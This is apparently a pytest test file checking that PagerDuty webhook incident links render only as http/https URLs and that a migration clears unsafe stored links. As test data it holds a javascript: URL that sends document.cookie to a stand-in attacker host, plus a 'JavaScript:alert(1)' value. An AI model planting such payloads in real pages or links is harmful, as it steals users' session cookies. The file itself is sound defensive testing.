"""An incident's `html_url` from a PagerDuty webhook becomes a link on the event page only when
it is an http or https URL: a signed body is only as careful as whoever holds the
subscription's secret, and the page must not lean on its CSP alone. The subscription comes
from a real OAuth connect to the sandbox."""

from __future__ import annotations

import json
import re
from datetime import UTC, datetime
from pathlib import Path

import httpx2
from databases import Database

from app.deps import Deps
from app.webhooks.signature import sign
from tests.installations.conftest import Sandbox
from tests.installations.test_lifecycle import connect_two, incident_event, webhook_target

AT = datetime(2026, 11, 22, 12, 5, tzinfo=UTC)
MIGRATION = Path(__file__).parents[2] / "migrations" / "0007_browser_sessions.sql"
GOOD = "https://acme-corp.pagerduty.com/incidents/PINC123"


def with_url(raw: bytes, url: str) -> bytes:
    body = json.loads(raw)
    body["event"]["data"]["html_url"] = url
    return json.dumps(body).encode()


def incident_links(page: str) -> list[str]:
    cell = re.search(r'<td id="incident">(.*?)</td>', page, re.S)
    assert cell is not None, "the incident's state is shown"
    return re.findall(r'href="([^"]*)"', cell.group(1))


async def test_only_a_web_incident_link_is_recorded_and_shown(
    deps: Deps, sandbox: Sandbox, db: Database
) -> None:
    http, tenant, _ = await connect_two(deps, sandbox)
    path, secret, pd_service = await webhook_target(db, sandbox)
    auth = {"Authorization": f"Bearer {tenant['ingest_key']}"}
    sent = await http.post(
        "/v1/alerts",
        json={"summary": "Disk full", "dedup_key": "disk-1", "service": pd_service},
        headers=auth,
    )
    event_id = sent.json()["events"][0]["id"]

    async def deliver(url: str, webhook_id: str, status: str) -> httpx2.Response:
        raw = with_url(
            incident_event(f"incident.{status}", status, pd_service, "disk-1", at=AT), url
        )
        headers = {
            "X-Webhook-Id": webhook_id,
            "Content-Type": "application/json",
            "X-PagerDuty-Signature": f"v1={sign(secret, raw)}",
        }
        return await http.post(path, content=raw, headers=headers)

    evil = "javascript:fetch('https://evil.example/?'+document.cookie)"
    assert (await deliver(evil, "wh-evil", "acknowledged")).status_code == 200
    page = await http.get(f"/settings/events/{event_id}")
    assert page.status_code == 200
    assert "acknowledged" in page.text
    assert incident_links(page.text) == []
    assert "javascript" not in page.text
    detail = (await http.get(f"/v1/events/{event_id}", headers=auth)).json()
    assert detail["incident"]["html_url"] is None

    # The same incident with a real link: shown, and in the delivery API.
    assert (await deliver(GOOD, "wh-good", "resolved")).status_code == 200
    page = await http.get(f"/settings/events/{event_id}")
    assert incident_links(page.text) == [GOOD]
    detail = (await http.get(f"/v1/events/{event_id}", headers=auth)).json()
    assert detail["incident"]["html_url"] == GOOD

    # A link recorded before pdconnect checked them is still never rendered as one ...
    await db.execute("UPDATE incident_states SET html_url = 'JavaScript:alert(1)'")
    page = await http.get(f"/settings/events/{event_id}")
    assert incident_links(page.text) == []
    assert "JavaScript:" not in page.text
    # ... and the migration that came with the check forgets such links.
    cleanup = MIGRATION.read_text()
    await db.execute(cleanup[cleanup.index("UPDATE incident_states") :])
    assert await db.fetch_val("SELECT html_url FROM incident_states") is None
    await db.execute("UPDATE incident_states SET html_url = :url", {"url": GOOD})
    await db.execute(cleanup[cleanup.index("UPDATE incident_states") :])
    assert await db.fetch_val("SELECT html_url FROM incident_states") == GOOD
